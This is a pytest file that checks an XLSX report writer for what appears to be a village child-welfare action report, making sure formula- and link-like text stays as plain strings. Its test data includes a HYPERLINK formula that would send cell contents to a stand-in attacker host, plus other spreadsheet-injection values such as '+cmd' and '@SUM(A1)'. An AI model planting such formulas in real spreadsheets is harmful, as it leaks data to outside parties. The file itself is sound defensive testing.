"""The XLSX report read back with openpyxl: four sheets in order, a bold header row, each
cell as the report's rows say it (text as text, never a formula or a link; numbers as
numbers), the same whether written to a path or into a buffer."""

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from models.changes import RECORD_COLUMNS, compare
from service.report_data import ReportData
from service.report_xlsx import (
    ACTION_HEADERS,
    CHANGE_HEADERS,
    PROBLEM_HEADERS,
    report_sheets,
    write_report,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
# texts a spreadsheet writer may be tempted to turn into something else
TRICKY = [FORMULA, "=1+1", "http://evil.example/x", "mailto:a@evil.example", "+cmd", "-3"]
TRICKY += ["@SUM(A1)", "00123", "340422201603150032", "1e5", "internal:Sheet1!A1", "TRUE"]


def _action(row: int, person_id: str, hours: int) -> list:
    """An ACTION_HEADERS row."""
    level, action, department = "紧急", "第一时间向公安机关强制报告", "县公安局"
    masked = ["王**", "340422**********32"]
    return [row, person_id, *masked, level, action, department, hours, "是", "3.1.4", "x.y"]


def _records(levels: dict[str, str]) -> pd.DataFrame:
    rows = [
        (k, i + 2, k, "李*", "340422**********11", lv) for i, (k, lv) in enumerate(levels.items())
    ]
    return pd.DataFrame(rows, columns=RECORD_COLUMNS, dtype=object)


def _report(with_changes: bool = True) -> ReportData:
    actions = [_action(2 + i, text, 24 * i) for i, text in enumerate(TRICKY)]
    actions.append([99, "", "", "", "低", "定期走访", "村委会", 720, "否", "", ""])
    changes = None
    if with_changes:
        before = _records({"=1+1": "low", "b": "critical", "c": "critical", "gone": "high"})
        now = _records({"=1+1": "high", "b": "critical", "c": "medium", FORMULA: "low"})
        changes = compare(before, now)
    return ReportData(
        "寿春镇",
        "=城东村",
        "2026Q4",
        {"rows_in": 14, "scored": 13, "critical": 12},
        actions,
        actions_total=40,
        problems=[("rejected row", 3, "年龄 (age)", "'=1+1' is not a number")],
        changes=changes,
        ignored_columns=["http://x.example"],
    )


def _read(target):
    return load_workbook(target)


def _cells(book, title):
    return list(book[title].iter_rows())


@pytest.mark.parametrize("with_changes", [True, False])
def test_each_cell_reads_back_as_the_rows_say(tmp_path, with_changes):
    data = _report(with_changes)
    path, buffer = tmp_path / "report.xlsx", io.BytesIO()
    write_report(data, path)
    write_report(data, buffer)
    expected = report_sheets(data)
    assert [t for t, _, _ in expected] == ["summary", "actions", "changes", "data problems"]
    assert [h for _, h, _ in expected[1:]] == [ACTION_HEADERS, CHANGE_HEADERS, PROBLEM_HEADERS]
    assert len(expected[2][2]) == (5 if with_changes else 0)  # one of each kind
    for book in (_read(path), _read(io.BytesIO(buffer.getvalue()))):
        assert book.sheetnames == [t for t, _, _ in expected]
        for title, headers, rows in expected:
            cells = _cells(book, title)
            assert [c.value for c in cells[0]] == headers, title
            assert all(c.font.b for c in cells[0]), title
            assert len(cells) == 1 + len(rows), title
            for got, row in zip(cells[1:], rows, strict=True):
                assert len(got) <= len(row)
                for cell, value in zip(got, row, strict=False):
                    assert cell.hyperlink is None
                    if isinstance(value, str) and value:
                        assert cell.data_type == "s" and cell.value == value, (title, value)
                    elif isinstance(value, int):
                        assert cell.data_type == "n" and cell.value == value, (title, value)
                        assert isinstance(cell.value, int | float)
                    else:  # "" or None: an empty cell
                        assert value in ("", None) and cell.value is None, (title, value)
                for cell in got[len(row) :]:
                    assert cell.value is None


def test_formula_like_texts_stay_strings_and_numbers_stay_numbers():
    buffer = io.BytesIO()
    write_report(_report(), buffer)
    book = load_workbook(buffer)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if c.hyperlink]
    actions = list(book["actions"].iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in actions[: len(TRICKY)]] == TRICKY  # in the rows' order
    assert actions[0][0] == 2 and actions[3][7] == 72 and actions[-1][7] == 720
    assert {type(r[0]) for r in actions} <= {int, float}
    summary = dict(book["summary"].iter_rows(values_only=True))
    assert summary["村 (village)"] == "=城东村" and summary["乡镇 (township)"] == "寿春镇"
    assert isinstance(summary["紧急"], int | float) and summary["紧急"] == 12
    assert summary["未识别的列 (ignored columns)"] == "http://x.example"
    changes = list(book["changes"].iter_rows(min_row=2, values_only=True))
    assert changes[0][:3] == ("新增", 5, FORMULA)


def test_a_sheet_without_rows_keeps_its_header():
    buffer = io.BytesIO()
    write_report(ReportData("寿春镇", "城东村", "2026Q4", {"rows_in": 0}), buffer)
    book = load_workbook(buffer)
    for title, headers in (
        ("actions", ACTION_HEADERS),
        ("changes", CHANGE_HEADERS),
        ("data problems", PROBLEM_HEADERS),
    ):
        rows = list(book[title].iter_rows(values_only=True))
        assert rows == [tuple(headers)], title


def test_a_sheet_with_headers_past_a_cells_limit_still_gets_its_report(assessor, tmp_path):
    """Twenty unrecognised headers of 1,900 characters each, joined in the summary, run past
    the 32,767 characters a cell holds: the report is written, that cell cut with "…"."""
    from models.sheets.files import sheet_batches
    from service.report_xlsx import EXCEL_TEXT
    from service.reviewing import review_file

    headers = ["类别", "年龄"] + [f"{k:02d}" + "栏" * 1898 for k in range(20)]
    path = tmp_path / "wide.csv"
    path.write_text(",".join(headers) + "\n" + ",".join(["儿童", "10"] + [""] * 20) + "\n")
    done = review_file(
        sheet_batches(path, path.name), assessor, township="t", village="v", period="2026Q4"
    )
    assert len(", ".join(done.report.ignored_columns)) > EXCEL_TEXT
    out = io.BytesIO()
    write_report(done.report, out)
    summary = load_workbook(io.BytesIO(out.getvalue()))["summary"]
    cut = [row[1].value for row in summary.iter_rows() if "ignored" in str(row[0].value)]
    assert len(cut) == 1 and len(cut[0]) == EXCEL_TEXT and cut[0].endswith("…")
    assert cut[0].startswith(headers[2])
